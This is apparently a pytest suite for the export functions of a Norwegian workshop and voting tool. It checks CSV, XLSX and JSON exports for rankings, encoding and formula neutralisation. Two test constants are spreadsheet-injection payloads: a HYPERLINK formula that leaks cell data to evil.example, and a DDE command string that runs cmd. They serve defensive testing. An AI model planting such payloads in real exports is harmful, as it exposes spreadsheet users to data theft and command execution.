"""Exports a case officer can archive: CSV, XLSX and JSON read back and checked."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pytest

from tests.support.api import Api, Workshop
from tests.support.config import SAMPLE_PROPOSALS

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'
FORMULA_BODY = "@SUM(1+1)*cmd|' /C calc'!A0"
FAMILY_TITLE = "Færre høringsrunder på små reguleringsplaner – også i Øyer og Åsnes"


def today() -> str:
    return datetime.now(ZoneInfo("Europe/Oslo")).date().isoformat()


def sample_rows() -> list[dict[str, str]]:
    if not SAMPLE_PROPOSALS.exists():
        pytest.skip(f"sample data missing: {SAMPLE_PROPOSALS}")
    with SAMPLE_PROPOSALS.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@dataclass
class Held:
    """A workshop that has been held: proposals, votes, reveal, and the expected totals."""

    ws: Workshop
    ids: dict[str, int]  # title -> id, visible proposals only
    dots: dict[int, int]
    folkevalgt: dict[int, int]
    pending_title: str


@pytest.fixture
def held(api: Api) -> Held:
    """The 30 sample proposals plus two awkward ones, six voters in three roles, revealed."""
    ws = api.create("Planverksted i Åsnes", settings={"moderation": True})
    api.go_to(ws, "collect")
    ids: dict[str, int] = {}
    for row in sample_rows():
        response = api.propose(
            ws.code, ws.facilitator_key, row["title"], body=row["body"], category=row["category"]
        )
        assert response.status_code == 201, response.get_json()
        ids[row["title"]] = response.get_json()["id"]
    for title, body in ((FORMULA_TITLE, FORMULA_BODY), (FAMILY_TITLE, "-5 dager frist")):
        response = api.propose(ws.code, ws.facilitator_key, title, body=body)
        ids[title] = response.get_json()["id"]
    phone = api.join(ws.code)
    pending_title = "Ventende forslag som ikke er godkjent"
    assert api.propose(ws.code, phone, pending_title).get_json()["status"] == "pending"
    api.go_to(ws, "vote")
    titles = list(ids)
    first, second, third = ids[titles[0]], ids[titles[1]], ids[titles[2]]
    formula = ids[FORMULA_TITLE]
    for _ in range(3):
        key = api.join(ws.code, role="Folkevalgt")
        assert api.vote(ws.code, key, {first: 3, second: 2}).status_code == 200
    for _ in range(2):
        key = api.join(ws.code, role="Administrasjon")
        assert api.vote(ws.code, key, {second: 1, third: 4}).status_code == 200
    key = api.join(ws.code, role="Innbygger")
    assert api.vote(ws.code, key, {formula: 5}).status_code == 200
    api.go_to(ws, "results")
    dots = dict.fromkeys(ids.values(), 0)
    dots.update({first: 9, second: 8, third: 8, formula: 5})
    folkevalgt = dict.fromkeys(ids.values(), 0)
    folkevalgt.update({first: 9, second: 6})
    return Held(ws, ids, dots, folkevalgt, pending_title)


def download(api: Api, ws: Workshop, fmt: str) -> Any:
    response = api.get(f"{ws.code}/export.{fmt}", ws.facilitator_key)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response


def attachment_name(response: Any) -> str:
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment")
    match = re.search(r'filename="([^"]+)"', disposition)
    assert match, disposition
    return match.group(1)


@pytest.mark.parametrize(
    ("fmt", "mimetype"),
    [
        ("csv", "text/csv"),
        ("zip", "application/zip"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("json", "application/json"),
    ],
)
def test_file_name_carries_workshop_code_and_date(
    api: Api, held: Held, fmt: str, mimetype: str
) -> None:
    response = download(api, held.ws, fmt)
    assert response.mimetype == mimetype
    name = attachment_name(response)
    assert held.ws.code in name
    assert today() in name
    assert name.endswith(f".{fmt}")
    assert "asnes" in name  # the workshop's title, in plain ASCII
    assert name.isascii()


def check_rows(rows: list[dict[str, Any]], held: Held, places: list[int] | None = None) -> None:
    """One row per visible proposal (stable column names), the right dots, ranked, ties shared."""
    assert len(rows) == 32
    assert {int(r["id"]) for r in rows} == set(held.ids.values())
    assert {int(r["id"]): int(r["dots"]) for r in rows} == held.dots
    assert [int(r["dots"]) for r in rows] == sorted((int(r["dots"]) for r in rows), reverse=True)
    shared = [1, 2, 3, 4] + [5] * 28  # no dots at all: one shared place
    assert [int(r["rank"]) for r in rows] == (places or shared)
    assert held.pending_title not in {r["title"] for r in rows}


def plain_rows(api: Api, held: Held) -> list[dict[str, str]]:
    """The proposals CSV in the RFC 4180 dialect: stable column names and codes."""
    response = api.get(f"{held.ws.code}/export.csv?dialect=rfc4180", held.ws.facilitator_key)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_csv_has_one_row_per_visible_proposal_with_its_dots(api: Api, held: Held) -> None:
    rows = plain_rows(api, held)
    assert {"id", "title", "body", "category", "dots", "step3_voters"} <= set(rows[0])
    check_rows(rows, held)
    assert int(rows[1]["step3_voters"]) == 5  # 8 dots from five voters ranks before 8 from two
    by_title = {r["title"]: r for r in rows}
    assert FAMILY_TITLE in by_title  # æ, ø, å survive
    assert by_title[FAMILY_TITLE]["body"] == "'-5 dager frist"
    assert "Slå sammen handlingsdel og økonomiplan" in by_title
    assert by_title["Slå sammen handlingsdel og økonomiplan"]["category"] == (
        "handlingsdel og økonomiplan"
    )


def test_csv_for_norwegian_excel_has_a_bom_semicolons_and_bokmal_headers(
    api: Api, held: Held
) -> None:
    content = download(api, held.ws, "csv").data
    assert content.startswith(b"\xef\xbb\xbf")
    header = content.decode("utf-8-sig").splitlines()[0].split(";")
    assert header[:5] == ["Plass", "ID", "Tittel", "Beskrivelse", "Tema"]
    assert "dots" in header and "Steg 3: deltakere" in header


def test_csv_neutralises_formulas(api: Api, held: Held) -> None:
    rows = plain_rows(api, held)
    formula_row = next(r for r in rows if int(r["id"]) == held.ids[FORMULA_TITLE])
    assert formula_row["title"] == "'" + FORMULA_TITLE
    assert formula_row["body"] == "'" + FORMULA_BODY
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value
    content = download(api, held.ws, "csv").data
    frame = pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")
    assert frame["dots"].sum() == sum(held.dots.values())


def sheet_rows(sheet: Any) -> list[dict[str, Any]]:
    header = [cell.value for cell in sheet[1]]
    return [
        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]


def test_xlsx_has_a_proposal_sheet_with_dots_and_a_sheet_about_the_method(
    api: Api, held: Held
) -> None:
    content = download(api, held.ws, "xlsx").data
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames[:2] == ["Forslag", "Om"]
    sheet = book["Forslag"]
    header = [cell.value for cell in sheet[1]]
    assert "dots" in header and "Tittel" in header
    named = {"Plass": "rank", "ID": "id", "Tittel": "title"}
    rows = [{named.get(k, k): v for k, v in row.items()} for row in sheet_rows(sheet)]
    check_rows(rows, held)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value  # no cell is a formula
    formula_row = next(r for r in rows if r["id"] == held.ids[FORMULA_TITLE])
    assert formula_row["title"] == "'" + FORMULA_TITLE
    assert FAMILY_TITLE in {r["title"] for r in rows}
    by_role = {r["ID"]: r["prikker – Folkevalgt"] for r in sheet_rows(book["Steg 3"])}
    assert by_role == held.folkevalgt  # roles of three or more are broken down …
    step_header = [cell.value for cell in book["Steg 3"][1]]
    assert not any("Administrasjon" in h or "Innbygger" in h for h in step_header)  # … others not

    about = {row[0].value: row[1].value for row in book["Om"].iter_rows(min_row=2)}
    assert about["Kode"] == held.ws.code
    assert about["Verksted"] == "Planverksted i Åsnes"
    method = about["Steg 3: Prikkestemming"]
    assert "Prikkestemming" in method and "5 prikker" in method and "Deltok: 6" in method
    assert "færre enn 3" in about["Konsensus og små grupper"]


def test_xlsx_reads_back_with_pandas(api: Api, held: Held) -> None:
    content = download(api, held.ws, "xlsx").data
    frame = pd.read_excel(io.BytesIO(content), sheet_name="Forslag")
    assert len(frame) == 32
    assert dict(zip(frame["ID"], frame["dots"], strict=True)) == held.dots


def test_json_archive_holds_method_proposals_and_audit(api: Api, held: Held) -> None:
    document = json.loads(download(api, held.ws, "json").data.decode("utf-8"))
    assert document["workshop"]["code"] == held.ws.code
    assert [s["kind"] for s in document["workshop"]["steps"]] == [
        "info",
        "collect",
        "vote",
        "results",
        "review",
        "rate",
        "results",
        "actions",
    ]
    assert document["about"]["voters"] == 6
    assert "Prikkestemming" in document["about"]["method"]
    raw = document["proposals"]  # every proposal, as stored; the ranking is in the analyses
    assert {p["id"] for p in raw if p["status"] == "visible"} == set(held.ids.values())
    assert held.pending_title in {p["title"] for p in raw if p["status"] == "pending"}
    ranked = document["analyses"][0]["proposals"]
    assert {r["id"]: r["dots"] for r in ranked} == held.dots
    assert [r["dots"] for r in ranked] == sorted(held.dots.values(), reverse=True)
    assert FAMILY_TITLE in {p["title"] for p in raw}
    actions = [entry["action"] for entry in document["audit"]]
    assert actions[0] == "created"
    assert actions.count("step") == 3


def test_every_format_has_the_same_name_apart_from_the_extension(api: Api, held: Held) -> None:
    names = {
        attachment_name(download(api, held.ws, fmt)).rsplit(".", 1)[0]
        for fmt in ("csv", "zip", "xlsx", "json")
    }
    assert len(names) == 1


def test_an_export_before_any_vote_lists_every_proposal_with_zero_dots(api: Api) -> None:
    ws = api.create("Tomt")
    api.go_to(ws, "collect")
    for title in ("Én", "To"):
        api.propose(ws.code, ws.facilitator_key, title)
    content = download(api, ws, "csv").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content), delimiter=";"))
    assert sorted(r["Tittel"] for r in rows) == ["To", "Én"]
    assert {r["dots"] for r in rows} == {"0"}
    book = openpyxl.load_workbook(io.BytesIO(download(api, ws, "xlsx").data))
    assert book["Forslag"].max_row == 3


def test_an_export_of_an_empty_workshop_still_has_the_header(api: Api) -> None:
    ws = api.create("Helt tomt")
    content = download(api, ws, "csv").data.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(content), delimiter=";"))
    assert "dots" in header and "Tittel" in header
    book = openpyxl.load_workbook(io.BytesIO(download(api, ws, "xlsx").data))
    assert "dots" in [cell.value for cell in book["Forslag"][1]]
    assert json.loads(download(api, ws, "json").data)["proposals"] == []


def test_xlsx_keeps_a_title_pasted_with_control_characters(api: Api) -> None:
    """A vertical tab or NUL from a word processor cannot live in a worksheet: it is dropped,
    the rest of the title stays and the workbook still downloads."""
    ws = api.create("Lim inn fra Word")
    api.go_to(ws, "collect")
    pasted = "Felles\x0bplanforum\x00 med nabokommunene"
    response = api.propose(ws.code, ws.facilitator_key, pasted)
    assert response.status_code == 201, response.get_json()
    book = openpyxl.load_workbook(io.BytesIO(download(api, ws, "xlsx").data))
    header = [cell.value for cell in book["Forslag"][1]]
    titles = [row[header.index("Tittel")].value for row in book["Forslag"].iter_rows(min_row=2)]
    assert titles == ["Fellesplanforum med nabokommunene"]
